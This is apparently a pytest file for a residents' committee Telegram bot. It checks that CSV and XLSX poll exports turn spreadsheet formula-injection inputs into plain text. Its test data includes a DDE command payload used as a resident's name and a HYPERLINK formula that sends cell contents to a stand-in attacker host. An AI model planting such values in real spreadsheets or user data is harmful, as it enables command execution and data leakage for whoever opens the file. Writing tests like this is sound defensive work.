"""What residents send is not turned against the committee, and privacy commands keep their
word: exports that no spreadsheet runs as formulas, /forgetme that leaves nothing linking
a person to what they did, /mydata with everything, and no secret in the logs."""

import io

from openpyxl import load_workbook

from bot.fakeapi.harness import create_poll, poll_id_of
from handlers.polls import callbacks as poll_buttons
from tests.helpers import group_with_bot, introduce

HOSTILE = ("=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tpadded", "\rreturn")


async def _moderated(bot, api, tg):
    group, owner, stored = await group_with_bot(bot, api, tg, "Elm House",
                                                owner_language="en")
    mark = api.mark()
    await tg.say(owner, owner, "/start")
    await api.wait_for("sendMessage", after=mark)
    return group, owner, stored


async def test_exports_never_carry_a_formula(bot, api, tg):
    group, owner, stored = await _moderated(bot, api, tg)
    # A resident whose name is a formula votes on a poll whose answers are formulas.
    mallory = tg.person("=cmd|' /C calc'!A0", language_code="en")
    await introduce(bot, tg, group, mallory)
    mark = api.mark()
    await tg.send_document(owner, owner, "roster.csv", f"1-101,{mallory.id},owner,90".encode())
    await api.wait_for("sendMessage", after=mark, where=lambda c: c.chat_id == owner.id)
    post, _c, _p = await create_poll(api, tg, group, owner, stored.id,
                                     question="@Which colour?", options=HOSTILE[:4])
    mark = api.mark()
    await tg.press(mallory, post, poll_buttons.VOTE.data(poll_id_of(post), 0))
    await api.wait_for("answerCallbackQuery", after=mark)
    mark = api.mark()
    await tg.say(group, owner, "/export P-1")
    csv_call = await api.wait_for("sendDocument", after=mark)
    xlsx_call = await api.wait_for("sendDocument", after=mark, where=lambda c: c is not csv_call)
    text = api.upload(csv_call)[1].decode("utf-8-sig")
    # Every hostile cell starts with the quote OWASP recommends; none starts bare.
    assert "'=cmd|' /C calc'!A0" in text and "'=HYPERLINK" in text
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text
    book = load_workbook(io.BytesIO(api.upload(xlsx_call)[1]))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
    values = {c.value for c in cells}
    assert "=cmd|' /C calc'!A0" in values  # shown as written
    assert any(str(v).startswith("@Which colour?") or "@Which colour?" in str(v)
               for v in values)
